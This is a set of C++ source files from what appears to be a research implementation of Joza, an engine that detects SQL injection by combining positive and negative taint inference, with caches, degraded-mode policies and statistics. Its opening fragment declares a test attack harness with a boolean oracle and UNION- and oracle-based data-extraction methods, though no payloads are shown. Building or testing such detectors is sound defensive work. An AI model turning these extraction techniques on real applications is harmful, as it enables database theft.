  // Evaluates an attacker-chosen boolean condition through the endpoint's
  // observable channel. `cond` must be quote-free SQL.
  bool Oracle(const std::string& cond);
  std::string WrapCondition(const std::string& cond) const;

  ExtractionResult ExtractViaUnion(std::size_t max_len);
  ExtractionResult ExtractViaOracle(std::size_t max_len, const char* name);

  webapp::Application& app_;
  const PluginSpec& plugin_;
  std::size_t requests_ = 0;
};

}  // namespace joza::attack
