// Sharded, thread-safe, optionally bounded cache of safe-verdict hashes.
//
// The query cache and structure cache hold 64-bit hashes of queries PTI has
// deemed safe. Under the concurrent gateway many worker threads consult and
// update them on every request, and under sustained traffic an unbounded set
// would grow without limit (every distinct search term inserts a new query
// hash). This cache solves both: keys are spread over independently locked
// shards (striped locking, so unrelated lookups never contend), and each
// shard is bounded with CLOCK second-chance eviction — an LRU approximation
// that keeps the hot working set resident with O(1) amortized updates.
//
// A capacity of 0 keeps the seed behaviour: unbounded, never evicts. The
// structure is safety-preserving either way: eviction can only *forget* a
// safe verdict (forcing a redundant PTI re-run), never grant one.
#pragma once

#include <atomic>
#include <cstdint>
#include <mutex>
#include <unordered_map>
#include <unordered_set>
#include <vector>

namespace joza::core {

class ShardedSafetyCache {
 public:
  // `capacity` bounds the total entry count across all shards (0 =
  // unbounded). `shards` is rounded up to a power of two, at least 1.
  explicit ShardedSafetyCache(std::size_t capacity = 0, std::size_t shards = 16);

  ShardedSafetyCache(const ShardedSafetyCache&) = delete;
  ShardedSafetyCache& operator=(const ShardedSafetyCache&) = delete;

  // Returns true iff `hash` is cached; marks the entry recently-used.
  bool Lookup(std::uint64_t hash);

  // Inserts `hash`, evicting the coldest entry of its shard when the shard
  // is at capacity. Idempotent.
  void Insert(std::uint64_t hash);

  // Drops every entry (fragment-vocabulary changes invalidate verdicts).
  void Clear();

  std::size_t size() const;
  std::size_t capacity() const { return capacity_; }
  std::size_t shard_count() const { return shards_.size(); }
  std::size_t evictions() const {
    return evictions_.load(std::memory_order_relaxed);
  }

 private:
  struct Slot {
    std::uint64_t hash = 0;
    bool referenced = false;  // CLOCK second-chance bit
  };
  struct Shard {
    mutable std::mutex mu;
    // Bounded mode: ring of slots walked by the clock hand, plus an index.
    std::vector<Slot> slots;
    std::unordered_map<std::uint64_t, std::size_t> index;  // hash -> slot
    std::size_t hand = 0;
    // Unbounded mode (per-shard cap 0): plain set, no eviction metadata.
    std::unordered_set<std::uint64_t> set;
  };

  Shard& ShardFor(std::uint64_t hash);

  std::size_t capacity_;
  std::size_t per_shard_cap_;  // 0 = unbounded
  std::size_t shard_shift_;    // 64 - log2(shard count)
  std::atomic<std::size_t> evictions_{0};
  std::vector<Shard> shards_;
};

}  // namespace joza::core
