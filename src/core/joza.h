// Joza: the hybrid taint-inference engine (Section IV).
//
// Every query the application issues is checked by PTI first, then NTI; it
// is safe iff both deem it safe. Two caches accelerate PTI: the query
// cache (exact query text of previously-safe queries) and the structure
// cache (AST shape with data nodes blanked — safe because injected SQL
// always alters the shape). NTI is never cached: its verdict depends on
// the request's inputs.
#pragma once

#include <cstdint>
#include <functional>
#include <string>
#include <string_view>
#include <unordered_map>
#include <unordered_set>
#include <vector>

#include "http/request.h"
#include "nti/nti.h"
#include "phpsrc/fragments.h"
#include "pti/pti.h"
#include "sqlparse/token.h"
#include "util/span.h"
#include "webapp/application.h"

namespace joza::core {

enum class RecoveryPolicy {
  kTerminate,           // default: conservative, blank page
  kErrorVirtualization, // report a failed query, let the app handle it
};

struct JozaConfig {
  nti::NtiConfig nti;
  pti::PtiConfig pti;
  bool enable_nti = true;
  bool enable_pti = true;
  bool query_cache = true;
  bool structure_cache = true;
  RecoveryPolicy recovery = RecoveryPolicy::kTerminate;
};

enum class DetectedBy { kNone, kNti, kPti, kBoth };

const char* DetectedByName(DetectedBy d);

struct Verdict {
  bool attack = false;
  DetectedBy detected_by = DetectedBy::kNone;
  bool query_cache_hit = false;
  bool structure_cache_hit = false;
  nti::NtiResult nti;
  pti::PtiResult pti;
};

struct JozaStats {
  std::size_t queries_checked = 0;
  std::size_t attacks_detected = 0;
  std::size_t query_cache_hits = 0;
  std::size_t structure_cache_hits = 0;
  std::size_t pti_full_runs = 0;
  std::size_t nti_runs = 0;
};

// Structured record of one detected attack, for audit logs / operators.
struct AttackReport {
  std::string query;
  DetectedBy detected_by = DetectedBy::kNone;
  // PTI evidence: critical-token texts that no fragment covered.
  std::vector<std::string> untrusted_tokens;
  // NTI evidence: which input matched, where, and how closely.
  std::string matched_input_name;
  http::InputKind matched_input_kind = http::InputKind::kGet;
  ByteSpan matched_span;
  double match_ratio = 0.0;
  std::size_t sequence = 0;  // detection counter at report time

  // One-line rendering for log files.
  std::string ToLogLine() const;
};

// Receives every attack the engine detects. Must not re-enter the engine.
using AttackSink = std::function<void(const AttackReport&)>;

// Pluggable PTI execution: in-process by default, or the IPC daemon client
// (Section IV-C1) — the architecture the paper ships to avoid requiring a
// PHP extension.
using PtiFn = std::function<pti::PtiResult(
    std::string_view query, const std::vector<sql::Token>& tokens)>;

class Joza {
 public:
  Joza(php::FragmentSet fragments, JozaConfig config = {});

  // Installation (Section IV-A): scans the application's source corpus for
  // fragments, exactly as the real installer recursively parses the
  // application directory.
  static Joza Install(const webapp::Application& app, JozaConfig config = {});

  const JozaConfig& config() const { return config_; }
  const JozaStats& stats() const { return stats_; }
  void ResetStats() { stats_ = JozaStats{}; }
  const pti::PtiAnalyzer& pti_analyzer() const { return pti_; }

  // Re-routes PTI analysis (e.g. through the daemon). Pass nullptr to
  // restore in-process analysis. Caches still apply in front of it.
  void SetPtiBackend(PtiFn fn) { pti_backend_ = std::move(fn); }

  // Installs an audit sink invoked for every detected attack.
  void SetAttackSink(AttackSink sink) { attack_sink_ = std::move(sink); }

  // Checks one query against the stored request inputs.
  Verdict Check(std::string_view query, const std::vector<http::Input>& inputs);

  // Binds this engine as an application interception gate applying the
  // configured recovery policy. The Joza object must outlive the gate.
  webapp::QueryGate MakeGate();

  // Preprocessing hook (Section IV-B): folds newly discovered sources into
  // the fragment set and invalidates the caches.
  void OnSourcesChanged(const std::vector<php::SourceFile>& files);

 private:
  pti::PtiResult RunPti(std::string_view query,
                        const std::vector<sql::Token>& tokens);

  JozaConfig config_;
  pti::PtiAnalyzer pti_;
  nti::NtiAnalyzer nti_;
  PtiFn pti_backend_;  // empty -> in-process
  AttackSink attack_sink_;

  // Query cache: hashes of exact query strings previously deemed PTI-safe.
  std::unordered_set<std::uint64_t> safe_query_cache_;
  // Structure cache: AST-structure hashes of previously PTI-safe queries.
  std::unordered_set<std::uint64_t> safe_structure_cache_;

  JozaStats stats_;
};

}  // namespace joza::core
