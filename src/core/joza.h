// Joza: the hybrid taint-inference engine (Section IV).
//
// Every query the application issues is checked by PTI first, then NTI; it
// is safe iff both deem it safe. Two caches accelerate PTI: the query
// cache (exact query text of previously-safe queries) and the structure
// cache (AST shape with data nodes blanked — safe because injected SQL
// always alters the shape). NTI is never cached: its verdict depends on
// the request's inputs.
//
// Thread safety: Check(), MakeGate()'s gate, stats() and OnSourcesChanged()
// may be called concurrently from any number of threads (the gateway shares
// one engine across its whole worker pool). The analyze path is lock-free:
// every check pins the current immutable RulesetSnapshot with one atomic
// load and runs entirely against it; OnSourcesChanged builds a successor
// snapshot off to the side and publishes it RCU-style, so updates never
// quiesce readers. The caches are sharded with striped locks, and stats
// counters are atomic. The setters (SetPtiBackend, SetAttackSink) and
// ResetStats are setup-time operations: call them before concurrent
// checking starts.
#pragma once

#include <atomic>
#include <cstdint>
#include <functional>
#include <memory>
#include <mutex>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include "core/sharded_cache.h"
#include "costmodel/costmodel.h"
#include "resilience/circuit_breaker.h"
#include "http/request.h"
#include "nti/nti.h"
#include "phpsrc/fragments.h"
#include "pti/ruleset.h"
#include "sqlparse/critical.h"
#include "sqlparse/token.h"
#include "util/deadline.h"
#include "util/rcu.h"
#include "util/span.h"
#include "util/status.h"
#include "webapp/application.h"

namespace joza::nti {
class ScopedBatchMatch;
}  // namespace joza::nti

namespace joza::core {

enum class RecoveryPolicy {
  kTerminate,           // default: conservative, blank page
  kErrorVirtualization, // report a failed query, let the app handle it
};

// What the engine does while the PTI backend is unavailable (circuit
// breaker open, deadline misses, dead daemons).
enum class DegradedMode {
  // Every un-cached query is blocked via error virtualization: the app
  // sees a failed query, the attacker sees a database error. No request
  // is ever waved through without a PTI verdict (paper §IV-C policy).
  kFailClosed,
  // NTI alone decides while PTI is down. Trades the hybrid guarantee for
  // availability; every such check is loudly counted in JozaStats.
  kNtiOnly,
};

const char* DegradedModeName(DegradedMode mode);

struct JozaConfig {
  nti::NtiConfig nti;
  pti::PtiConfig pti;
  bool enable_nti = true;
  bool enable_pti = true;
  bool query_cache = true;
  bool structure_cache = true;
  RecoveryPolicy recovery = RecoveryPolicy::kTerminate;
  // Degraded-mode policy when the PTI backend fails or the breaker is
  // open. kNtiOnly silently behaves as kFailClosed when enable_nti is
  // false: with neither analyzer available nothing may pass.
  DegradedMode degraded_mode = DegradedMode::kFailClosed;
  // Circuit breaker wrapping the external PTI backend (ignored for the
  // in-process analyzer, which cannot fail). threshold 0 disables.
  resilience::CircuitBreakerOptions breaker;
  // Bound on each safety cache's entry count. 0 keeps the seed behaviour
  // (unbounded, as the Table V/VI benches assume); the gateway sets a bound
  // so memory stays stable under unbounded distinct-query traffic. Eviction
  // is CLOCK (LRU-ish) and can only forget safe verdicts, never grant one.
  std::size_t cache_capacity = 0;
  // Lock-striping width of the safety caches (rounded up to a power of
  // two). More shards = less contention between worker threads.
  std::size_t cache_shards = 16;
  // Version the seed fragment set corresponds to. A warm start from a
  // crash-durable snapshot passes the recovered version so the engine
  // continues the pre-crash version line (cache salts, verdict stamps,
  // daemon handshakes) instead of restarting at zero.
  std::uint64_t initial_ruleset_version = 0;
  // Measured cost model (costmodel::LoadCostModel / Calibrate) steering
  // every matcher strategy decision through costmodel::Planner. Null runs
  // the built-in hand-tuned defaults — identical to pre-calibration
  // behavior. Propagated into the nti/pti sub-configs at construction (so
  // it travels inside every published RulesetSnapshot) unless those
  // already carry their own model.
  std::shared_ptr<const costmodel::CostModel> cost_model;
};

// Everything a check needs to judge one query, bundled as one immutable
// object behind a single shared_ptr. A check pins the snapshot with one
// atomic load; OnSourcesChanged builds a successor and swaps the pointer.
// Old snapshots retire when their last in-flight check drops its pin.
struct RulesetSnapshot {
  // PTI vocabulary + prebuilt Aho–Corasick automaton + PtiConfig.
  std::shared_ptr<const pti::Ruleset> pti;
  // NTI policy travels with the snapshot too, so every layer a check
  // touches agrees on one configuration generation.
  nti::NtiConfig nti;
  // Update-log position == pti->version(); salted into cache hashes and
  // carried through verdicts and the daemon wire protocol.
  std::uint64_t version = 0;
};

enum class DetectedBy { kNone, kNti, kPti, kBoth };

const char* DetectedByName(DetectedBy d);

struct Verdict {
  bool attack = false;
  DetectedBy detected_by = DetectedBy::kNone;
  bool query_cache_hit = false;
  bool structure_cache_hit = false;
  // This check ran without a PTI verdict (backend failure or breaker fast
  // reject) and the degraded-mode policy decided the outcome.
  bool degraded = false;
  bool pti_unavailable = false;
  // Version of the ruleset snapshot this check was pinned to.
  std::uint64_t ruleset_version = 0;
  nti::NtiResult nti;
  pti::PtiResult pti;
};

struct JozaStats {
  std::size_t queries_checked = 0;
  std::size_t attacks_detected = 0;
  std::size_t query_cache_hits = 0;
  std::size_t structure_cache_hits = 0;
  std::size_t pti_full_runs = 0;
  std::size_t nti_runs = 0;
  // NTI matcher-pipeline roll-up (sums of the per-check NtiResult
  // counters): inputs resolved by the exact stage, candidates that reached
  // the kernel after q-gram seeding, full Sellers verifications, and the
  // tier histogram of which matching tier decided each considered input.
  std::size_t nti_exact_hits = 0;
  std::size_t nti_seed_candidates = 0;
  std::size_t nti_dp_runs = 0;
  std::size_t nti_tier_reference = 0;
  std::size_t nti_tier_bounded = 0;
  std::size_t nti_tier_staged = 0;
  // Planner decision histogram (sums of NtiResult::planner_*): how each
  // eligible input's exact stage actually ran — batch-scope lookup, this
  // check's own automaton scan, or per-input find — plus how many
  // decisions came from a calibrated model instead of builtin defaults.
  std::size_t nti_planner_exact_batch = 0;
  std::size_t nti_planner_exact_automaton = 0;
  std::size_t nti_planner_exact_find = 0;
  std::size_t nti_planner_calibrated = 0;
  std::size_t cache_evictions = 0;
  // Degraded-path accounting: backend calls that returned an error (incl.
  // deadline misses), calls the open breaker refused without trying, checks
  // decided without a PTI verdict, and checks blocked solely because of
  // degradation (not counted as attacks_detected — nothing was detected).
  std::size_t pti_failures = 0;
  std::size_t breaker_fast_rejects = 0;
  std::size_t degraded_checks = 0;
  std::size_t degraded_blocks = 0;
  // Snapshot lifecycle: version currently published and the number of
  // publishes since construction (version is an identity — aggregation
  // takes the max; swaps is a counter — aggregation sums).
  std::uint64_t ruleset_version = 0;
  std::size_t ruleset_swaps = 0;
  // Crash-durability accounting: successful/failed persists through the
  // snapshot sink, and warm starts recovered from a persisted snapshot.
  std::size_t snapshot_saves = 0;
  std::size_t snapshot_save_failures = 0;
  std::size_t snapshot_loads = 0;

  // Aggregation across engines / snapshot intervals (gateway roll-ups).
  JozaStats& operator+=(const JozaStats& other);

  // Flattened name/value export of every counter above, in declaration
  // order — the single source the benchmark subsystem and monitoring
  // surfaces read, so a newly added field cannot be silently dropped from
  // the emitted BENCH_*.json.
  std::vector<std::pair<const char*, std::uint64_t>> Counters() const;
};

// Structured record of one detected attack, for audit logs / operators.
struct AttackReport {
  std::string query;
  DetectedBy detected_by = DetectedBy::kNone;
  // PTI evidence: critical-token texts that no fragment covered.
  std::vector<std::string> untrusted_tokens;
  // NTI evidence: which input matched, where, and how closely.
  std::string matched_input_name;
  http::InputKind matched_input_kind = http::InputKind::kGet;
  ByteSpan matched_span;
  double match_ratio = 0.0;
  std::size_t sequence = 0;  // detection counter at report time

  // One-line rendering for log files (single pre-sized buffer).
  std::string ToLogLine() const;
};

// Receives every attack the engine detects. Must not re-enter the engine.
using AttackSink = std::function<void(const AttackReport&)>;

// Persists one published ruleset generation (fragment vocabulary +
// version); wired to resilience::SaveRulesetSnapshot by the gateway CLI.
// Invoked after every publish, serialized with other writers. Must not
// re-enter the engine; the returned Status only feeds the save counters
// (a failed persist never blocks the publish — durability is best-effort,
// correctness does not depend on it).
using SnapshotSink =
    std::function<Status(const php::FragmentSet&, std::uint64_t version)>;

// Pluggable PTI execution: in-process by default, or the IPC daemon client
// (Section IV-C1) — the architecture the paper ships to avoid requiring a
// PHP extension. An error Status means "no verdict" (dead daemon, deadline
// miss, pool shut down); the engine's circuit breaker and degraded-mode
// policy decide what that means — backends must NOT bake in their own
// fail-closed fake verdicts. `deadline` bounds the whole call; backends
// that cannot honour it should return promptly on a best-effort basis.
using PtiFn = std::function<StatusOr<pti::PtiResult>(
    std::string_view query, const std::vector<sql::Token>& tokens,
    util::Deadline deadline)>;

class Joza {
 public:
  Joza(php::FragmentSet fragments, JozaConfig config = {});

  // Installation (Section IV-A): scans the application's source corpus for
  // fragments, exactly as the real installer recursively parses the
  // application directory.
  static Joza Install(const webapp::Application& app, JozaConfig config = {});

  const JozaConfig& config() const { return config_; }
  // Consistent point-in-time snapshot of the atomic counters.
  JozaStats stats() const;
  void ResetStats();

  // The currently-published ruleset snapshot (one atomic load). Callers
  // may hold it for as long as they like; it never mutates.
  std::shared_ptr<const RulesetSnapshot> ruleset() const;
  std::uint64_t ruleset_version() const;

  // Re-routes PTI analysis (e.g. through the daemon). Pass nullptr to
  // restore in-process analysis. Caches still apply in front of it.
  void SetPtiBackend(PtiFn fn) { pti_backend_ = std::move(fn); }

  // Installs an audit sink invoked for every detected attack.
  void SetAttackSink(AttackSink sink) { attack_sink_ = std::move(sink); }

  // Installs the crash-durability sink invoked after every snapshot
  // publish (setup-time, like the other setters).
  void SetSnapshotSink(SnapshotSink sink) { snapshot_sink_ = std::move(sink); }

  // Records that this engine was warm-started from a persisted snapshot
  // (exported as snapshot_loads; called by whoever performed the load).
  void NoteSnapshotLoad() {
    state_->stats.snapshot_loads.fetch_add(1, std::memory_order_relaxed);
  }

  // Circuit breaker guarding the external PTI backend. Exposed for stats
  // snapshots and tests; resetting it mid-traffic is safe.
  const resilience::CircuitBreaker& breaker() const { return state_->breaker; }
  resilience::CircuitBreaker& breaker() { return state_->breaker; }

  // Checks one query against the stored request inputs. The default
  // deadline is the ambient per-request deadline installed by
  // util::ScopedRequestDeadline (infinite when none is active); it bounds
  // the external PTI backend call. No input is copied: the analysis reads
  // borrowed views of the caller's vector.
  Verdict Check(
      std::string_view query, const std::vector<http::Input>& inputs,
      util::Deadline deadline = util::ScopedRequestDeadline::current());

  // Zero-copy entry over a whole stored request (the gate's hot path):
  // enumerates the request's inputs as views, never materializing the
  // AllInputs() copy vector.
  Verdict CheckRequest(
      std::string_view query, const http::Request& request,
      util::Deadline deadline = util::ScopedRequestDeadline::current());

  // Binds this engine as an application interception gate applying the
  // configured recovery policy. The Joza object must outlive the gate.
  webapp::QueryGate MakeGate();

  // Batched admission entry point. While a BatchScope is alive on a
  // thread, every Check/CheckRequest issued from that thread resolves the
  // staged matcher's exact stage against one shared automaton built over
  // all Add()ed requests' input values (see nti::BatchMatchContext) —
  // verdicts are unchanged, the automaton build is just amortized across
  // the batch. Add() every request before the first check; the requests
  // must outlive the scope. Thread-confined, like the ambient deadline.
  // Constructing a scope on an engine whose staged tier is not in play
  // (NTI disabled, non-staged tier) is a no-op.
  class BatchScope {
   public:
    explicit BatchScope(const Joza& engine);
    ~BatchScope();

    BatchScope(const BatchScope&) = delete;
    BatchScope& operator=(const BatchScope&) = delete;

    void Add(const http::Request& request);

    // Exact-stage accounting for the gateway's batch counters: automaton
    // scans run vs lookups served from the batch's scan cache.
    std::uint64_t exact_scans() const;
    std::uint64_t exact_reuses() const;

   private:
    std::unique_ptr<nti::ScopedBatchMatch> scope_;  // null when no-op
  };

  // Preprocessing hook (Section IV-B): folds newly discovered sources into
  // a successor snapshot (built off the hot path) and publishes it; checks
  // already in flight finish against the snapshot they pinned.
  void OnSourcesChanged(const std::vector<php::SourceFile>& files);

 private:
  // Per-query working set of the single-pass pipeline: the query is lexed
  // exactly once and every derived view (critical units for PTI, critical
  // tokens for NTI) is computed at most once and shared by all layers.
  struct AnalysisContext {
    std::string_view query;
    std::shared_ptr<const RulesetSnapshot> snapshot;
    util::Deadline deadline;
    std::vector<sql::Token> tokens;          // the one and only Lex
    std::vector<sql::CriticalUnit> pti_units;  // per snapshot->pti policy
    std::vector<sql::Token> nti_critical;      // per snapshot->nti policy
  };

  // Per-field atomic mirror of JozaStats, relaxed increments on the hot
  // path; stats() sums them into a plain snapshot.
  struct AtomicStats {
    std::atomic<std::size_t> queries_checked{0};
    std::atomic<std::size_t> attacks_detected{0};
    std::atomic<std::size_t> query_cache_hits{0};
    std::atomic<std::size_t> structure_cache_hits{0};
    std::atomic<std::size_t> pti_full_runs{0};
    std::atomic<std::size_t> nti_runs{0};
    std::atomic<std::size_t> nti_exact_hits{0};
    std::atomic<std::size_t> nti_seed_candidates{0};
    std::atomic<std::size_t> nti_dp_runs{0};
    std::atomic<std::size_t> nti_tier_reference{0};
    std::atomic<std::size_t> nti_tier_bounded{0};
    std::atomic<std::size_t> nti_tier_staged{0};
    std::atomic<std::size_t> nti_planner_exact_batch{0};
    std::atomic<std::size_t> nti_planner_exact_automaton{0};
    std::atomic<std::size_t> nti_planner_exact_find{0};
    std::atomic<std::size_t> nti_planner_calibrated{0};
    std::atomic<std::size_t> pti_failures{0};
    std::atomic<std::size_t> breaker_fast_rejects{0};
    std::atomic<std::size_t> degraded_checks{0};
    std::atomic<std::size_t> degraded_blocks{0};
    std::atomic<std::size_t> ruleset_swaps{0};
    std::atomic<std::size_t> snapshot_saves{0};
    std::atomic<std::size_t> snapshot_save_failures{0};
    std::atomic<std::size_t> snapshot_loads{0};
  };

  // All concurrently-mutated state lives behind one pointer so Joza itself
  // stays movable (Install returns by value). Moving an engine while other
  // threads are checking through it is, of course, still undefined.
  struct SharedState {
    SharedState(std::size_t capacity, std::size_t shards,
                resilience::CircuitBreakerOptions breaker_options)
        : query_cache(capacity, shards),
          structure_cache(capacity, shards),
          breaker(breaker_options) {}
    // The published ruleset snapshot; readers pin it lock-free.
    RcuCell<RulesetSnapshot> snapshot;
    // Query cache: hashes of exact query strings previously PTI-safe
    // (salted with the snapshot version they were proven under).
    ShardedSafetyCache query_cache;
    // Structure cache: AST-structure hashes of previously PTI-safe queries
    // (same version salt).
    ShardedSafetyCache structure_cache;
    AtomicStats stats;
    // Counter snapshot subtracted by ResetStats (cache eviction counters
    // are cumulative inside the cache).
    std::atomic<std::size_t> evictions_baseline{0};
    // Serializes writers (OnSourcesChanged) against each other only;
    // checks never touch it.
    std::mutex swap_mu;
    // Attack sinks are user callbacks with no thread-safety contract.
    std::mutex sink_mu;
    // Guards the external PTI backend; the in-process path never consults
    // it (an in-process analyzer cannot fail).
    resilience::CircuitBreaker breaker;
  };

  StatusOr<pti::PtiResult> RunPti(const AnalysisContext& ctx);
  // The single-pass pipeline shared by both public entries; `inputs` are
  // borrowed views that must stay valid for the duration of the call.
  Verdict CheckViews(std::string_view query,
                     const std::vector<http::InputView>& inputs,
                     util::Deadline deadline);
  void EmitAttackReport(const Verdict& verdict, std::string_view query,
                        std::size_t sequence);

  JozaConfig config_;
  PtiFn pti_backend_;  // empty -> in-process; must be thread-safe if the
                       // engine is checked from multiple threads
  AttackSink attack_sink_;
  SnapshotSink snapshot_sink_;
  std::unique_ptr<SharedState> state_;
};

}  // namespace joza::core
