#include "core/sharded_cache.h"

#include <algorithm>

namespace joza::core {

namespace {

std::size_t RoundUpPow2(std::size_t n) {
  std::size_t p = 1;
  while (p < n) p <<= 1;
  return p;
}

std::size_t Log2(std::size_t pow2) {
  std::size_t bits = 0;
  while (pow2 > 1) {
    pow2 >>= 1;
    ++bits;
  }
  return bits;
}

}  // namespace

ShardedSafetyCache::ShardedSafetyCache(std::size_t capacity, std::size_t shards)
    : capacity_(capacity),
      shards_(RoundUpPow2(shards == 0 ? 1 : shards)) {
  // With a tiny capacity, fewer shards than requested keep every shard
  // non-degenerate (at least one slot each is guaranteed regardless).
  per_shard_cap_ =
      capacity_ == 0 ? 0
                     : std::max<std::size_t>(1, capacity_ / shards_.size());
  shard_shift_ = 64 - Log2(shards_.size());
}

ShardedSafetyCache::Shard& ShardedSafetyCache::ShardFor(std::uint64_t hash) {
  // Multiply-shift spreads FNV hashes evenly over the power-of-two shards;
  // taking high bits keeps shard choice independent of the index buckets.
  const std::uint64_t mixed = hash * 0x9e3779b97f4a7c15ull;
  return shards_[shard_shift_ >= 64 ? 0 : mixed >> shard_shift_];
}

bool ShardedSafetyCache::Lookup(std::uint64_t hash) {
  Shard& shard = ShardFor(hash);
  std::lock_guard<std::mutex> lock(shard.mu);
  if (per_shard_cap_ == 0) return shard.set.contains(hash);
  auto it = shard.index.find(hash);
  if (it == shard.index.end()) return false;
  shard.slots[it->second].referenced = true;
  return true;
}

void ShardedSafetyCache::Insert(std::uint64_t hash) {
  Shard& shard = ShardFor(hash);
  std::lock_guard<std::mutex> lock(shard.mu);
  if (per_shard_cap_ == 0) {
    shard.set.insert(hash);
    return;
  }
  if (auto it = shard.index.find(hash); it != shard.index.end()) {
    shard.slots[it->second].referenced = true;
    return;
  }
  if (shard.slots.size() < per_shard_cap_) {
    shard.index.emplace(hash, shard.slots.size());
    shard.slots.push_back(Slot{hash, false});
    return;
  }
  // CLOCK: sweep until a slot with a clear reference bit turns up; each
  // pass clears bits, so the sweep terminates within two revolutions.
  for (;;) {
    Slot& victim = shard.slots[shard.hand];
    if (victim.referenced) {
      victim.referenced = false;
      shard.hand = (shard.hand + 1) % shard.slots.size();
      continue;
    }
    shard.index.erase(victim.hash);
    shard.index.emplace(hash, shard.hand);
    victim = Slot{hash, false};
    shard.hand = (shard.hand + 1) % shard.slots.size();
    evictions_.fetch_add(1, std::memory_order_relaxed);
    return;
  }
}

void ShardedSafetyCache::Clear() {
  for (Shard& shard : shards_) {
    std::lock_guard<std::mutex> lock(shard.mu);
    shard.slots.clear();
    shard.index.clear();
    shard.set.clear();
    shard.hand = 0;
  }
}

std::size_t ShardedSafetyCache::size() const {
  std::size_t total = 0;
  for (const Shard& shard : shards_) {
    std::lock_guard<std::mutex> lock(shard.mu);
    total += per_shard_cap_ == 0 ? shard.set.size() : shard.slots.size();
  }
  return total;
}

}  // namespace joza::core
