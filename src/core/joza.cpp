#include "core/joza.h"

#include <algorithm>
#include <utility>

#include "nti/batch.h"
#include "sqlparse/lexer.h"
#include "sqlparse/structure.h"
#include "util/hash.h"

namespace joza::core {

const char* DetectedByName(DetectedBy d) {
  switch (d) {
    case DetectedBy::kNone: return "none";
    case DetectedBy::kNti: return "NTI";
    case DetectedBy::kPti: return "PTI";
    case DetectedBy::kBoth: return "NTI+PTI";
  }
  return "?";
}

const char* DegradedModeName(DegradedMode mode) {
  switch (mode) {
    case DegradedMode::kFailClosed: return "fail-closed";
    case DegradedMode::kNtiOnly: return "nti-only";
  }
  return "?";
}

JozaStats& JozaStats::operator+=(const JozaStats& other) {
  queries_checked += other.queries_checked;
  attacks_detected += other.attacks_detected;
  query_cache_hits += other.query_cache_hits;
  structure_cache_hits += other.structure_cache_hits;
  pti_full_runs += other.pti_full_runs;
  nti_runs += other.nti_runs;
  nti_exact_hits += other.nti_exact_hits;
  nti_seed_candidates += other.nti_seed_candidates;
  nti_dp_runs += other.nti_dp_runs;
  nti_tier_reference += other.nti_tier_reference;
  nti_tier_bounded += other.nti_tier_bounded;
  nti_tier_staged += other.nti_tier_staged;
  nti_planner_exact_batch += other.nti_planner_exact_batch;
  nti_planner_exact_automaton += other.nti_planner_exact_automaton;
  nti_planner_exact_find += other.nti_planner_exact_find;
  nti_planner_calibrated += other.nti_planner_calibrated;
  cache_evictions += other.cache_evictions;
  pti_failures += other.pti_failures;
  breaker_fast_rejects += other.breaker_fast_rejects;
  degraded_checks += other.degraded_checks;
  degraded_blocks += other.degraded_blocks;
  // Version is an identity, not a counter: a roll-up reports the newest
  // snapshot any engine has published. Swap counts add like counters.
  ruleset_version = std::max(ruleset_version, other.ruleset_version);
  ruleset_swaps += other.ruleset_swaps;
  snapshot_saves += other.snapshot_saves;
  snapshot_save_failures += other.snapshot_save_failures;
  snapshot_loads += other.snapshot_loads;
  return *this;
}

std::vector<std::pair<const char*, std::uint64_t>> JozaStats::Counters()
    const {
  return {
      {"queries_checked", queries_checked},
      {"attacks_detected", attacks_detected},
      {"query_cache_hits", query_cache_hits},
      {"structure_cache_hits", structure_cache_hits},
      {"pti_full_runs", pti_full_runs},
      {"nti_runs", nti_runs},
      {"nti_exact_hits", nti_exact_hits},
      {"nti_seed_candidates", nti_seed_candidates},
      {"nti_dp_runs", nti_dp_runs},
      {"nti_tier_reference", nti_tier_reference},
      {"nti_tier_bounded", nti_tier_bounded},
      {"nti_tier_staged", nti_tier_staged},
      {"nti_planner_exact_batch", nti_planner_exact_batch},
      {"nti_planner_exact_automaton", nti_planner_exact_automaton},
      {"nti_planner_exact_find", nti_planner_exact_find},
      {"nti_planner_calibrated", nti_planner_calibrated},
      {"cache_evictions", cache_evictions},
      {"pti_failures", pti_failures},
      {"breaker_fast_rejects", breaker_fast_rejects},
      {"degraded_checks", degraded_checks},
      {"degraded_blocks", degraded_blocks},
      {"ruleset_version", ruleset_version},
      {"ruleset_swaps", ruleset_swaps},
      {"snapshot_saves", snapshot_saves},
      {"snapshot_save_failures", snapshot_save_failures},
      {"snapshot_loads", snapshot_loads},
  };
}

Joza::Joza(php::FragmentSet fragments, JozaConfig config)
    : config_(config),
      state_(std::make_unique<SharedState>(config.cache_capacity,
                                           config.cache_shards,
                                           config.breaker)) {
  // Propagate the engine-level cost model into the analyzer sub-configs so
  // it travels inside every published RulesetSnapshot; explicit per-analyzer
  // models win.
  if (config_.cost_model) {
    if (!config_.nti.cost_model) config_.nti.cost_model = config_.cost_model;
    if (!config_.pti.cost_model) config_.pti.cost_model = config_.cost_model;
  }
  auto ruleset = pti::Ruleset::Build(std::move(fragments), config_.pti,
                                     config_.initial_ruleset_version);
  state_->snapshot.Publish(std::make_shared<const RulesetSnapshot>(
      RulesetSnapshot{std::move(ruleset), config_.nti,
                      config_.initial_ruleset_version}));
}

Joza Joza::Install(const webapp::Application& app, JozaConfig config) {
  return Joza(php::FragmentSet::FromSources(app.sources()), config);
}

std::shared_ptr<const RulesetSnapshot> Joza::ruleset() const {
  return state_->snapshot.Load();
}

std::uint64_t Joza::ruleset_version() const {
  return state_->snapshot.Load()->version;
}

JozaStats Joza::stats() const {
  JozaStats out;
  const AtomicStats& a = state_->stats;
  out.queries_checked = a.queries_checked.load(std::memory_order_relaxed);
  out.attacks_detected = a.attacks_detected.load(std::memory_order_relaxed);
  out.query_cache_hits = a.query_cache_hits.load(std::memory_order_relaxed);
  out.structure_cache_hits =
      a.structure_cache_hits.load(std::memory_order_relaxed);
  out.pti_full_runs = a.pti_full_runs.load(std::memory_order_relaxed);
  out.nti_runs = a.nti_runs.load(std::memory_order_relaxed);
  out.nti_exact_hits = a.nti_exact_hits.load(std::memory_order_relaxed);
  out.nti_seed_candidates =
      a.nti_seed_candidates.load(std::memory_order_relaxed);
  out.nti_dp_runs = a.nti_dp_runs.load(std::memory_order_relaxed);
  out.nti_tier_reference =
      a.nti_tier_reference.load(std::memory_order_relaxed);
  out.nti_tier_bounded = a.nti_tier_bounded.load(std::memory_order_relaxed);
  out.nti_tier_staged = a.nti_tier_staged.load(std::memory_order_relaxed);
  out.nti_planner_exact_batch =
      a.nti_planner_exact_batch.load(std::memory_order_relaxed);
  out.nti_planner_exact_automaton =
